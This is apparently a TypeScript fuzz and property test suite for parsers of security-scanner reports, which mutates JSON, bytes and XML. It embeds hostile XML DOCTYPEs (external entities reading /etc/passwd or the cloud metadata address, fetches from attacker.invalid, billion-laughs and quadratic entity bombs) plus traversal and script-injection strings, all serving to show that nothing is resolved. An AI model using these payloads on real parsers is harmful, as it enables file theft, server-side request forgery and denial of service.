import { existsSync, readdirSync, readFileSync, statSync } from "node:fs";
import { resolve } from "node:path";
import { gzipSync } from "node:zlib";
import fc from "fast-check";
import { describe, it } from "vitest";
import { NormalizedFinding, type NormalizedReport } from "#shared/domain/finding";
import { issuePath, ParseError } from "#shared/parsers/parse-error";
import { parseReport } from "#shared/parsers/registry";
import { CORPUS_DIR, REPO_ROOT, skipWithoutShared } from "#test/support/corpus";
import { CORPUS_EXPECTATIONS } from "./corpus-expectations.ts";

/**
 * Mutation properties for every parser: whatever a report turns into (a broken structure, damaged
 * bytes, gzip, a BOM, a hostile DOCTYPE), `parseReport` either returns findings that are valid
 * `NormalizedFinding`s or throws a `ParseError`, within a time budget. Both paths are exercised:
 * detection from content, and `--format <the original's format>`.
 *
 * Inputs: every fixture under test/fixtures/parsers/<format-id>/, and a few small files of the
 * shared corpus read in place (never copied). Runs are seeded, so CI replays the same inputs.
 */

const CTX = { secretSalt: "p" };
const SEED = 20_250_611;
/** Per call. A parser that needs longer on inputs of at most 100 KB is looping or backtracking. */
const CALL_BUDGET_MS = 5_000;
const RUNS = { json: 60, bytes: 60, xml: 60 } as const;
const TEST_TIMEOUT_MS = 60_000;
/**
 * For the ~256 KB pathological inputs below: linear code reads them in a few milliseconds, a
 * quadratic scan needs seconds (and minutes at the 512 MB input cap).
 */
const LINEAR_BUDGET_MS = 500;
const CORPUS_MAX_BYTES = 100_000;
/** Small corpus files, one or two per format, read in place when the shared corpus is present. */
const CORPUS_FILES = [
  "bandit-json/bandit-1.9.4-small-flask-app.json",
  "cyclonedx-json/grype-presenter-snapshot-image-vulns.cdx.json",
  "gosec-json/gosec-dev-small-2-issues.json",
  "grype-json/grype-presenter-snapshot-image.json",
  "npm-audit-json/npm-audit-v2-all-severities-legacy-advisory-ids.json",
  "nuclei-jsonl/nuclei-jsonl-v2-info-findings.jsonl",
  "osv-scanner-json/osv-scanner-v2-gomod-stdlib-real-run.json",
  "sarif/codeql-2.0.0-and-lgtm-codeql-action-testdata.sarif",
  "sarif/trivy-image-alpine-3.10.sarif",
  "semgrep-json/semgrep-taint-dataflow-traces.json",
  "trivy-json/trivy-fs-gomod-with-vex.json",
  "zap-json/zap-2.14.0-baseline-low-medium.json",
];

// ---- inputs ------------------------------------------------------------------------------------

type JsonShape = { kind: "json"; value: unknown } | { kind: "jsonl"; values: unknown[] };

interface Sample {
  name: string;
  /** The format id the unmutated input belongs to. */
  format: string;
  bytes: Uint8Array;
  /** Parsed JSON or JSON Lines, when the raw text is one. */
  json?: JsonShape;
  xml: boolean;
}

interface Group {
  name: string;
  samples: Sample[];
}

function jsonShape(text: string): JsonShape | undefined {
  try {
    return { kind: "json", value: JSON.parse(text) };
  } catch {
    const lines = text.split("\n").filter((l) => l.trim());
    if (lines.length < 2) return undefined;
    try {
      return { kind: "jsonl", values: lines.map((l) => JSON.parse(l)) };
    } catch {
      return undefined;
    }
  }
}

function sampleOf(name: string, format: string, bytes: Uint8Array): Sample {
  const text = Buffer.from(bytes)
    .toString("utf8")
    .replace(/^\uFEFF/, "");
  return { name, format, bytes, json: jsonShape(text), xml: text.trimStart().startsWith("<") };
}

function fixtureGroups(): Group[] {
  const root = resolve(REPO_ROOT, "test/fixtures/parsers");
  return readdirSync(root, { withFileTypes: true })
    .filter((d) => d.isDirectory())
    .map((d) => d.name)
    .sort()
    .map((format) => ({
      name: format,
      samples: readdirSync(resolve(root, format))
        .sort()
        .map((file) => sampleOf(`${format}/${file}`, format, readFileSync(resolve(root, format, file)))),
    }));
}

const CORPUS_PATHS = CORPUS_FILES.map((file) => resolve(CORPUS_DIR, file));
const skipCorpus = skipWithoutShared("parser mutation properties on the shared corpus", CORPUS_PATHS);

/** The small corpus files, or (in CI, where the corpus must be) the ones that are missing. */
function corpusGroup(): Group | { missing: string[] } | undefined {
  if (skipCorpus) return undefined;
  const missing = CORPUS_PATHS.filter((path) => !existsSync(path));
  if (missing.length) return { missing };
  const samples: Sample[] = [];
  CORPUS_FILES.forEach((file, i) => {
    const format = CORPUS_EXPECTATIONS[file]?.format;
    const path = CORPUS_PATHS[i] ?? "";
    if (!format || statSync(path).size >= CORPUS_MAX_BYTES) return;
    samples.push(sampleOf(`corpus:${file}`, format, readFileSync(path)));
  });
  return { name: "shared corpus (small files)", samples };
}

// ---- the property ------------------------------------------------------------------------------

/** Parses and checks one input: a valid report or a ParseError, nothing else, within the budget. */
function checkOutcome(
  bytes: Uint8Array,
  label: string,
  formatId?: string,
  budgetMs: number = CALL_BUDGET_MS,
): NormalizedReport | undefined {
  const started = performance.now();
  let report: NormalizedReport | undefined;
  let thrown: { error: unknown } | undefined;
  try {
    report = parseReport(bytes, CTX, formatId);
  } catch (error) {
    thrown = { error };
  }
  const ms = performance.now() - started;
  if (ms > budgetMs) throw new Error(`${label}: took ${ms.toFixed(0)} ms (budget ${budgetMs} ms)`);
  if (thrown) {
    if (thrown.error instanceof ParseError) return undefined;
    const e = thrown.error as { name?: unknown; message?: unknown } | undefined;
    throw new Error(
      `${label}: threw ${String(e?.name ?? typeof thrown.error)} instead of ParseError: ${String(e?.message ?? thrown.error)}`,
    );
  }
  if (!report) throw new Error(`${label}: returned nothing`);
  report.findings.forEach((finding, i) => {
    const checked = NormalizedFinding.safeParse(finding);
    if (!checked.success) {
      const issue = checked.error.issues[0];
      throw new Error(
        `${label}: findings[${i}] is not a NormalizedFinding: ${issue ? `${issuePath(issue.path)}: ${issue.message}` : "invalid"}`,
      );
    }
  });
  return report;
}

/** Both entry points: detection from content, and the original's format forced. */
function checkBoth(bytes: Uint8Array, sample: Sample): Array<NormalizedReport | undefined> {
  return [
    checkOutcome(bytes, `${sample.name} (detected)`),
    checkOutcome(bytes, `${sample.name} (--format ${sample.format})`, sample.format),
  ];
}

// ---- JSON structural mutations -----------------------------------------------------------------

type Path = Array<string | number>;

type Replacement =
  | { kind: "null" }
  | { kind: "number"; value: number }
  | { kind: "string"; value: string }
  | { kind: "long-string"; char: string; length: number }
  | { kind: "array"; value: unknown[] }
  | { kind: "nested-object"; depth: number };

type JsonOp =
  | { op: "delete-key"; at: number; key: number }
  | { op: "replace"; at: number; with: Replacement; target: "any" | "same-type" }
  | { op: "duplicate-item"; at: number; index: number; copies: number }
  | { op: "truncate-array"; at: number; keep: number };

type Encoding = "compact" | "pretty" | "bom" | "gzip";

const MAX_NODES = 20_000;
const MAX_JSON_OPS = 10;

function isObject(value: unknown): value is Record<string, unknown> {
  return typeof value === "object" && value !== null && !Array.isArray(value);
}

function get(root: unknown, path: Path): unknown {
  let node = root;
  for (const key of path) node = (node as Record<string | number, unknown>)[key];
  return node;
}

/** Every node's path, depth first, root included. */
function paths(root: unknown): Path[] {
  const out: Path[] = [];
  const stack: Path[] = [[]];
  for (let path = stack.pop(); path && out.length < MAX_NODES; path = stack.pop()) {
    out.push(path);
    const node = get(root, path);
    if (Array.isArray(node)) for (let i = node.length - 1; i >= 0; i--) stack.push([...path, i]);
    else if (isObject(node)) for (const key of Object.keys(node).reverse()) stack.push([...path, key]);
  }
  return out;
}

function pick<T>(items: readonly T[], at: number): T | undefined {
  return items.length ? items[at % items.length] : undefined;
}

function materialize(r: Replacement): unknown {
  switch (r.kind) {
    case "null":
      return null;
    case "number":
    case "string":
    case "array":
      return r.value;
    case "long-string":
      return r.char.repeat(r.length);
    case "nested-object": {
      let value: unknown = "leaf";
      for (let i = 0; i < r.depth; i++) value = { nested: value };
      return value;
    }
  }
}

/** Applies one op to the tree (in place where it can) and returns the possibly new root. */
function applyJsonOp(root: unknown, op: JsonOp): unknown {
  const all = paths(root);
  const set = (path: Path, value: unknown): unknown => {
    if (path.length === 0) return value;
    const parent = get(root, path.slice(0, -1)) as Record<string | number, unknown>;
    parent[path[path.length - 1] as string | number] = value;
    return root;
  };
  switch (op.op) {
    case "delete-key": {
      const path = pick(
        all.filter((p) => {
          const n = get(root, p);
          return isObject(n) && Object.keys(n).length > 0;
        }),
        op.at,
      );
      if (!path) return root;
      const node = get(root, path) as Record<string, unknown>;
      const key = pick(Object.keys(node), op.key);
      if (key !== undefined) delete node[key];
      return root;
    }
    case "replace": {
      // `same-type` swaps a string for a string and a number for a number, so the document keeps
      // its shape and the odd value reaches the mapping code instead of failing validation
      const kind = op.with.kind === "long-string" ? "string" : op.with.kind;
      const candidates =
        op.target === "same-type" && (kind === "string" || kind === "number")
          ? all.filter((p) => typeof get(root, p) === kind)
          : all;
      const path = pick(candidates, op.at);
      return path ? set(path, materialize(op.with)) : root;
    }
    case "duplicate-item": {
      const arrays = all.filter((p) => {
        const n = get(root, p);
        return Array.isArray(n) && n.length > 0;
      });
      const path = pick(arrays, op.at);
      if (!path) return root;
      const node = get(root, path) as unknown[];
      const index = op.index % node.length;
      const item = node[index];
      node.splice(index, 0, ...Array.from({ length: op.copies }, () => structuredClone(item)));
      return root;
    }
    case "truncate-array": {
      const arrays = all.filter((p) => {
        const n = get(root, p);
        return Array.isArray(n) && n.length > 0;
      });
      const path = pick(arrays, op.at);
      if (!path) return root;
      const node = get(root, path) as unknown[];
      node.length = op.keep % node.length;
      return root;
    }
  }
}

function serialize(shape: JsonShape["kind"], value: unknown, encoding: Encoding): Uint8Array {
  const text =
    shape === "jsonl" && Array.isArray(value)
      ? `${value.map((v) => JSON.stringify(v)).join("\n")}\n`
      : (JSON.stringify(value, null, encoding === "pretty" ? 2 : undefined) ?? "null");
  const bytes = Buffer.from(text, "utf8");
  if (encoding === "bom") return Buffer.concat([BOM, bytes]);
  if (encoding === "gzip") return gzipSync(bytes);
  return bytes;
}

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

const interestingStrings = fc.constantFrom(
  "",
  " ",
  "0",
  "-1",
  "1.5",
  "null",
  "true",
  "NaN",
  "HIGH",
  "critical",
  "UNKNOWN",
  "error",
  "FAIL",
  "CVE-2021-44228",
  "GHSA-jfh8-c2jp-5v3q",
  "CWE-79",
  "pkg:npm/%40scope/name@1.0.0",
  "pkg:",
  "urn:cdx:3e671687-395b-41f5-a30f-a58921a69b79/1#ref",
  "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
  "CVSS:4.0/AV:N",
  "AV:N/AC:L/Au:N/C:P/I:P/A:P",
  "../../../etc/passwd",
  "C:\\Windows\\system32",
  "file:///etc/passwd",
  "%E0%A4%A",
  "<script>alert(1)</script>",
  "&amp;&#0;&#x110000;",
  "\u0000",
  "\ud800",
  "96-98",
);

const replacement: fc.Arbitrary<Replacement> = fc.oneof(
  fc.constant({ kind: "null" as const }),
  fc.record({
    kind: fc.constant("number" as const),
    value: fc.oneof(
      fc.integer(),
      fc.constantFrom(-1, 0, 1.5, -0.5, 10.5, 11, 1e21, -1e21, 2 ** 53 + 2, Number.MAX_VALUE),
      fc.double({ noNaN: true, noDefaultInfinity: true }),
    ),
  }),
  fc.record({
    kind: fc.constant("string" as const),
    value: fc.oneof(
      interestingStrings,
      fc.string({ maxLength: 20 }),
      fc.string({ unit: "binary", maxLength: 8 }),
    ),
  }),
  fc.record({
    kind: fc.constant("long-string" as const),
    char: fc.constantFrom("a", "9", "/", "é", "😀"),
    length: fc.constantFrom(21, 51, 101, 201, 301, 501, 1025, 2001, 4001, 9000),
  }),
  fc.record({
    kind: fc.constant("array" as const),
    value: fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 4 }),
  }),
  fc.record({ kind: fc.constant("nested-object" as const), depth: fc.integer({ min: 1, max: 200 }) }),
);

const replaceOp = (target: "any" | "same-type") =>
  fc.record({
    op: fc.constant("replace" as const),
    at: fc.nat(),
    with: replacement,
    target: fc.constant(target),
  });

const jsonOp: fc.Arbitrary<JsonOp> = fc.oneof(
  {
    arbitrary: fc.record({ op: fc.constant("delete-key" as const), at: fc.nat(), key: fc.nat() }),
    weight: 1,
  },
  { arbitrary: replaceOp("any"), weight: 1 },
  { arbitrary: replaceOp("same-type"), weight: 4 },
  {
    arbitrary: fc.record({
      op: fc.constant("duplicate-item" as const),
      at: fc.nat(),
      index: fc.nat(),
      copies: fc.integer({ min: 1, max: 3 }),
    }),
    weight: 1,
  },
  {
    arbitrary: fc.record({ op: fc.constant("truncate-array" as const), at: fc.nat(), keep: fc.nat() }),
    weight: 1,
  },
);

const encoding = fc.constantFrom<Encoding>("compact", "pretty", "bom", "gzip");

function mutateJson(sample: Sample, ops: readonly JsonOp[], enc: Encoding): Uint8Array {
  const shape = sample.json;
  if (!shape) return sample.bytes;
  let root: unknown = structuredClone(shape.kind === "json" ? shape.value : shape.values);
  for (const op of ops) root = applyJsonOp(root, op);
  return serialize(shape.kind, root, enc);
}

// ---- byte mutations ----------------------------------------------------------------------------

type ByteOp =
  | { op: "truncate"; at: number }
  | { op: "flip"; at: number; bit: number }
  | { op: "insert"; at: number; bytes: Uint8Array }
  | { op: "delete"; at: number; length: number }
  | { op: "gzip" }
  | { op: "bom" };

const interestingBytes = fc.constantFrom(
  ...["{", "}", "[", "]", '"', "\\", ",", ":", "\n", "\r\n", "<", ">", "&", ";", "\u0000", "\uFEFF"].map(
    (s) => new Uint8Array(Buffer.from(s, "utf8")),
  ),
  ...['{"a":', "<!--", "]]>", "\\u0000", "\\ud800", "<![CDATA[", "&lol;", "\xff\xfe"].map(
    (s) => new Uint8Array(Buffer.from(s, "latin1")),
  ),
);

const byteOp: fc.Arbitrary<ByteOp> = fc.oneof(
  fc.record({ op: fc.constant("truncate" as const), at: fc.nat() }),
  fc.record({ op: fc.constant("flip" as const), at: fc.nat(), bit: fc.integer({ min: 0, max: 7 }) }),
  fc.record({
    op: fc.constant("insert" as const),
    at: fc.nat(),
    bytes: fc.oneof(interestingBytes, fc.uint8Array({ minLength: 1, maxLength: 8 })),
  }),
  fc.record({ op: fc.constant("delete" as const), at: fc.nat(), length: fc.integer({ min: 1, max: 64 }) }),
  fc.constant({ op: "gzip" as const }),
  fc.constant({ op: "bom" as const }),
);

function applyByteOp(input: Uint8Array, op: ByteOp): Uint8Array {
  const bytes = Buffer.from(input);
  switch (op.op) {
    case "truncate":
      return bytes.subarray(0, op.at % (bytes.length + 1));
    case "flip": {
      if (!bytes.length) return bytes;
      const i = op.at % bytes.length;
      bytes[i] = (bytes[i] ?? 0) ^ (1 << op.bit);
      return bytes;
    }
    case "insert": {
      const i = op.at % (bytes.length + 1);
      return Buffer.concat([bytes.subarray(0, i), op.bytes, bytes.subarray(i)]);
    }
    case "delete": {
      if (!bytes.length) return bytes;
      const i = op.at % bytes.length;
      return Buffer.concat([bytes.subarray(0, i), bytes.subarray(i + op.length)]);
    }
    case "gzip":
      return gzipSync(bytes);
    case "bom":
      return Buffer.concat([BOM, bytes]);
  }
}

// ---- XML DOCTYPE attacks -----------------------------------------------------------------------

type Doctype =
  | "external-file"
  | "external-http"
  | "parameter-entity"
  | "billion-laughs"
  | "quadratic-blowup"
  | "bracket-in-entity-value"
  | "public-id"
  | "unterminated"
  | "no-space-after-keyword";

interface XmlAttack {
  doctype: Doctype;
  /** Where the DOCTYPE goes: after the XML declaration, replacing an existing DOCTYPE, or anywhere. */
  place: "prolog" | "replace-existing" | "random";
  at: number;
  /** Entity references inserted after the n-th `>` of the document. */
  refs: number[];
}

const QUADRATIC_CHARS = 20_000;
const ATTACK_ENTITY: Record<Doctype, string> = {
  "external-file": "xxe",
  "external-http": "xxe",
  "parameter-entity": "xxe",
  "billion-laughs": "lol9",
  "quadratic-blowup": "a",
  "bracket-in-entity-value": "b",
  "public-id": "xxe",
  unterminated: "xxe",
  "no-space-after-keyword": "xxe",
};
/** The value of the internal entities below: it must never reach a finding. */
const EXPANDED = "DTD-ENTITY-EXPANDED";

function doctypeText(kind: Doctype, root: string): string {
  switch (kind) {
    case "external-file":
      return `<!DOCTYPE ${root} [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>`;
    case "external-http":
      return `<!DOCTYPE ${root} [ <!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/"> ]>`;
    case "parameter-entity":
      return `<!DOCTYPE ${root} [ <!ENTITY % ext SYSTEM "http://attacker.invalid/x.dtd"> %ext; <!ENTITY xxe "&#x25;ext;"> ]>`;
    case "billion-laughs": {
      const lines = ['<!ENTITY lol "lol">'];
      for (let i = 1; i <= 9; i++) {
        const prev = i === 1 ? "lol" : `lol${i - 1}`;
        lines.push(`<!ENTITY lol${i} "${`&${prev};`.repeat(10)}">`);
      }
      return `<!DOCTYPE ${root} [ ${lines.join(" ")} ]>`;
    }
    case "quadratic-blowup":
      return `<!DOCTYPE ${root} [ <!ENTITY a "${"Q".repeat(QUADRATIC_CHARS)}"> ]>`;
    case "bracket-in-entity-value":
      return `<!DOCTYPE ${root} [ <!ENTITY b "]>&lt;injected/&gt;"> <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>`;
    case "public-id":
      return `<!DOCTYPE ${root} PUBLIC "-//attacker//x" "http://attacker.invalid/x.dtd">`;
    case "unterminated":
      return `<!DOCTYPE ${root} [ <!ENTITY xxe SYSTEM "file:///etc/passwd">`;
    case "no-space-after-keyword":
      return `<!DOCTYPE${root}[<!ENTITY xxe "${EXPANDED}">]>`;
  }
}

const xmlAttack: fc.Arbitrary<XmlAttack> = fc.record({
  doctype: fc.constantFrom<Doctype>(
    "external-file",
    "external-http",
    "parameter-entity",
    "billion-laughs",
    "quadratic-blowup",
    "bracket-in-entity-value",
    "public-id",
    "unterminated",
    "no-space-after-keyword",
  ),
  place: fc.constantFrom<XmlAttack["place"]>("prolog", "replace-existing", "random"),
  at: fc.nat(),
  refs: fc.array(fc.nat(), { minLength: 0, maxLength: 4 }),
});

const XML_DECLARATION = /^\s*<\?xml[\s\S]*?\?>/;
const EXISTING_DOCTYPE = /<!DOCTYPE\s[^[>]*(\[[\s\S]*?\]\s*)?>/i;
const ROOT_NAME = /<([A-Za-z_][\w.:-]*)[\s>/]/;

function attackXml(sample: Sample, attack: XmlAttack): Uint8Array {
  let text = Buffer.from(sample.bytes).toString("utf8");
  const withoutProlog = text.replace(XML_DECLARATION, "").replace(EXISTING_DOCTYPE, "");
  const root = ROOT_NAME.exec(withoutProlog)?.[1] ?? "root";
  const doctype = doctypeText(attack.doctype, root);
  const entity = ATTACK_ENTITY[attack.doctype];
  // references first (positions refer to the original text), the DOCTYPE last
  const closes = [...text.matchAll(/>/g)].map((m) => m.index ?? 0);
  const reference = attack.doctype === "quadratic-blowup" ? `&${entity};`.repeat(500) : `&${entity};`;
  const positions = [...new Set(attack.refs.map((r) => pick(closes, r)))]
    .filter((p): p is number => p !== undefined)
    .sort((a, b) => b - a);
  for (const p of positions) text = `${text.slice(0, p + 1)}${reference}${text.slice(p + 1)}`;
  if (attack.place === "replace-existing" && EXISTING_DOCTYPE.test(text)) {
    text = text.replace(EXISTING_DOCTYPE, doctype);
  } else if (attack.place === "random") {
    const i = attack.at % (text.length + 1);
    text = `${text.slice(0, i)}${doctype}${text.slice(i)}`;
  } else {
    const declaration = XML_DECLARATION.exec(text)?.[0] ?? "";
    text = `${declaration}${doctype}${text.slice(declaration.length)}`;
  }
  return Buffer.from(text, "utf8");
}

/** Nothing outside the document may reach a finding, and nothing may expand. */
function checkNotExpanded(report: NormalizedReport | undefined, input: Uint8Array, label: string): void {
  if (!report) return;
  const out = JSON.stringify(report.findings);
  if (out.includes("root:x:0:0")) throw new Error(`${label}: an external entity was resolved`);
  if (out.includes(EXPANDED)) throw new Error(`${label}: an entity declared in the DOCTYPE was expanded`);
  if (out.includes("lollollol")) throw new Error(`${label}: an entity bomb expanded`);
  if (out.includes("Q".repeat(2 * QUADRATIC_CHARS)))
    throw new Error(`${label}: a quadratic blow-up entity expanded`);
  if (out.length > 16 * input.length + 1_000_000)
    throw new Error(`${label}: ${out.length} chars of findings from ${input.length} bytes of input`);
}

// ---- tests -------------------------------------------------------------------------------------

function seedOf(name: string): number {
  let h = SEED;
  for (let i = 0; i < name.length; i++) h = (Math.imul(h, 31) + name.charCodeAt(i)) | 0;
  return h;
}

function byName(samples: readonly Sample[]): fc.Arbitrary<string> {
  return fc.constantFrom(...samples.map((s) => s.name));
}

const corpus = corpusGroup();
const groups = [...fixtureGroups(), corpus].filter(
  (g): g is Group => g !== undefined && "samples" in g && g.samples.length > 0,
);

if (corpus && "missing" in corpus) {
  describe("shared corpus (small files)", () => {
    it("reads the small corpus files", () => {
      throw new Error(`the shared corpus files are missing: ${corpus.missing.join(", ")}`);
    });
  });
}

describe("parser mutation properties: a valid report or a ParseError, never anything else", () => {
  it("finds inputs to mutate", () => {
    if (groups.length < 2) throw new Error("no fixtures found");
  });

  for (const group of groups) {
    const find = (name: string): Sample => {
      const sample = group.samples.find((s) => s.name === name);
      if (!sample) throw new Error(`no sample ${name}`);
      return sample;
    };
    const jsonSamples = group.samples.filter((s) => s.json);
    const xmlSamples = group.samples.filter((s) => s.xml);

    describe(group.name, () => {
      it("holds for the unmutated inputs", () => {
        for (const sample of group.samples) checkBoth(sample.bytes, sample);
      });

      if (jsonSamples.length) {
        it(
          "holds under structural JSON mutations (delete key, replace value, duplicate or truncate arrays)",
          () => {
            fc.assert(
              fc.property(
                byName(jsonSamples),
                fc.array(jsonOp, { minLength: 1, maxLength: MAX_JSON_OPS }),
                encoding,
                (name, ops, enc) => {
                  const sample = find(name);
                  checkBoth(mutateJson(sample, ops, enc), sample);
                },
              ),
              { seed: seedOf(`${group.name}:json`), numRuns: RUNS.json },
            );
          },
          TEST_TIMEOUT_MS,
        );
      }

      it(
        "holds under byte mutations (truncate, flip, insert, delete, gzip, BOM)",
        () => {
          fc.assert(
            fc.property(
              byName(group.samples),
              fc.array(byteOp, { minLength: 1, maxLength: 4 }),
              (name, ops) => {
                const sample = find(name);
                let bytes: Uint8Array = sample.bytes;
                for (const op of ops) bytes = applyByteOp(bytes, op);
                checkBoth(bytes, sample);
              },
            ),
            { seed: seedOf(`${group.name}:bytes`), numRuns: RUNS.bytes },
          );
        },
        TEST_TIMEOUT_MS,
      );

      if (xmlSamples.length) {
        it(
          "holds under hostile DOCTYPEs (external entities, entity bombs) and resolves nothing",
          () => {
            fc.assert(
              fc.property(byName(xmlSamples), xmlAttack, (name, attack) => {
                const sample = find(name);
                const bytes = attackXml(sample, attack);
                for (const report of checkBoth(bytes, sample)) {
                  checkNotExpanded(report, bytes, `${sample.name} (${attack.doctype})`);
                }
              }),
              { seed: seedOf(`${group.name}:xml`), numRuns: RUNS.xml },
            );
          },
          TEST_TIMEOUT_MS,
        );
      }
    });
  }
});

/**
 * Repetitive text that makes a backtracking scan quadratic. Each case is one call; a fixed input,
 * not a random one, so a slow parser costs one call and not a shrinking session.
 */
describe("XML entities declared in a DOCTYPE", () => {
  it("are never expanded, however the DOCTYPE is spelled", () => {
    const xml = readFileSync(resolve(REPO_ROOT, "test/fixtures/parsers/zap-xml/report.xml"), "utf8");
    const declaration = XML_DECLARATION.exec(xml)?.[0] ?? "";
    const body = xml.slice(declaration.length).replace("<desc>", "<desc>&xxe;");
    for (const doctype of [
      `<!DOCTYPE OWASPZAPReport [<!ENTITY xxe "${EXPANDED}">]>`,
      `<!DOCTYPE\tOWASPZAPReport[<!ENTITY xxe "${EXPANDED}">]>`,
      `<!DOCTYPE[<!ENTITY xxe "${EXPANDED}">]>`,
      `<!DOCTYPEOWASPZAPReport[<!ENTITY xxe "${EXPANDED}">]>`,
    ]) {
      const bytes = Buffer.from(`${declaration}${doctype}${body}`);
      for (const [mode, format] of [
        ["detected", undefined],
        ["--format zap-xml", "zap-xml"],
      ] as const) {
        const label = `zap-xml/report.xml with ${JSON.stringify(doctype.slice(0, 24))}… (${mode})`;
        checkNotExpanded(checkOutcome(bytes, label, format), bytes, label);
      }
    }
  });
});

describe("parser time stays linear on pathological text", () => {
  const fixture = (path: string): string =>
    readFileSync(resolve(REPO_ROOT, "test/fixtures/parsers", path), "utf8");

  it(
    "unterminated comments before the root element (readDocument's prolog scan)",
    () => {
      const bytes = Buffer.from(`${"<!--".repeat(64_000)}${fixture("zap-xml/report.xml")}`);
      checkOutcome(
        bytes,
        `${bytes.length} bytes: '<!--' x 64000, then a ZAP report`,
        undefined,
        LINEAR_BUDGET_MS,
      );
    },
    TEST_TIMEOUT_MS,
  );

  it(
    "unterminated DOCTYPE openers after the root start tag (parseXml's DOCTYPE cut)",
    () => {
      const xml = fixture("zap-xml/report.xml");
      const cut = xml.indexOf(">", xml.indexOf("<OWASPZAPReport")) + 1;
      const bytes = Buffer.from(`${xml.slice(0, cut)}${"<!DOCTYPE a [".repeat(20_000)}${xml.slice(cut)}`);
      checkOutcome(
        bytes,
        `${bytes.length} bytes: a ZAP report with '<!DOCTYPE a [' x 20000 after <OWASPZAPReport>`,
        "zap-xml",
        LINEAR_BUDGET_MS,
      );
    },
    TEST_TIMEOUT_MS,
  );

  it(
    "an alert description of unclosed '<' (htmlToText, zap-json and burp-xml descriptions)",
    () => {
      const report = JSON.parse(fixture("zap-json/report.json")) as {
        site: Array<{ alerts: Array<{ desc?: string }> }>;
      };
      const alert = report.site[0]?.alerts[0];
      if (!alert) throw new Error("zap-json/report.json has no alert");
      alert.desc = "<".repeat(64_000);
      const bytes = Buffer.from(JSON.stringify(report));
      checkOutcome(
        bytes,
        `${bytes.length} bytes: a ZAP alert whose desc is '<' x 64000`,
        "zap-json",
        LINEAR_BUDGET_MS,
      );
    },
    TEST_TIMEOUT_MS,
  );
});
